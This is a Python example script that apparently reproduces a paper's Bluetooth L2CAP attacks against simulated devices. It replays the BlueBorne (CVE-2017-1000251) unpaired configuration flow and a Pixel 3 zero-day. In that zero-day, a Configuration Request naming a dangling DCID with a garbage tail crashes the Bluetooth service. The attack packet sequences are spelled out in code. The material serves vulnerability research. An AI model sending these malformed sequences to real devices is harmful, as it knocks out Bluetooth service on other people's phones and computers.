#!/usr/bin/env python3
"""Directed replay of the paper's two narrative attacks.

Part 1 walks the BlueBorne (CVE-2017-1000251) flow of paper §II.C against
a BlueZ-flavoured target: connect to the SDP port without pairing, enter
the configuration state, and deliver malformed configuration traffic that
the target accepts without rejection.

Part 2 replays the §IV.E zero-day on the armed Pixel 3 profile: a
Configuration Request naming a dangling DCID with a garbage tail, which
dereferences a NULL channel control block in ``l2c_csm_execute``.

Run with::

    python examples/blueborne_replay.py
"""

from __future__ import annotations

from repro.core.packet_queue import PacketQueue
from repro.errors import ConnectionFailedError
from repro.hci.transport import VirtualLink
from repro.l2cap.constants import CommandCode, Psm
from repro.l2cap.packets import (
    configuration_request,
    configuration_response,
    connection_request,
    disconnection_request,
)
from repro.testbed import D2, D8


def _rig(profile, armed: bool):
    device = profile.build(armed=armed)
    link = VirtualLink(clock=device.clock)
    device.attach_to(link)
    return device, PacketQueue(link)


def blueborne_flow() -> None:
    print("=" * 64)
    print("Part 1 — BlueBorne attack flow (paper §II.C, Fig. 4)")
    print("=" * 64)
    device, queue = _rig(D8, armed=False)  # an Ubuntu laptop running BlueZ

    print("-> ConnectionRequest (PSM: SDP)  [no pairing required]")
    responses = queue.send(connection_request(psm=Psm.SDP, scid=0x0070))
    dcid = responses[0].fields["dcid"]
    print(f"<- ConnectionResponse - Success (target DCID=0x{dcid:04X})")
    print("   state transition without pairing: CLOSED -> WAIT_CONFIG")

    print("-> Configuration Request (normal)")
    responses = queue.send(configuration_request(dcid=dcid, identifier=2))
    for response in responses:
        print(f"<- {response.command_name}")

    print("-> Malformed Configuration Response - Pending (garbage tail)")
    malformed = configuration_response(scid=dcid, result=0x0004, identifier=3).replace(
        garbage=b"\x41" * 12
    )
    responses = queue.send(malformed)
    rejected = any(r.code == CommandCode.COMMAND_REJECT for r in responses)
    print(f"   rejected by target: {rejected}  (BlueBorne premise: accepted)")
    queue.send(disconnection_request(dcid=dcid, scid=0x0070, identifier=4))
    print()


def pixel3_zero_day() -> None:
    print("=" * 64)
    print("Part 2 — Pixel 3 zero-day (paper §IV.E, Fig. 12)")
    print("=" * 64)
    device, queue = _rig(D2, armed=True)

    # Make CID 0x0040 dangle: connect, disconnect, reconnect.
    first = queue.send(connection_request(psm=Psm.SDP, scid=0x0070))
    stale = first[0].fields["dcid"]
    queue.send(disconnection_request(dcid=stale, scid=0x0070, identifier=2))
    queue.send(connection_request(psm=Psm.SDP, scid=0x0071, identifier=3))
    print(f"Dangling DCID prepared: 0x{stale:04X}")

    attack = configuration_request(dcid=stale, identifier=4).replace(
        garbage=bytes.fromhex("D23A910E")
    )
    print(f"-> {attack.describe()}")
    try:
        queue.send(attack)
        print("   target survived (unexpected)")
    except ConnectionFailedError:
        print("<- Connection Failed: Bluetooth service is down (DoS)")

    print(f"\nDevice alive: {device.is_alive}")
    print("Tombstone pulled from the device:")
    print(device.crash_dumps[0])


def main() -> None:
    blueborne_flow()
    pixel3_zero_day()


if __name__ == "__main__":
    main()
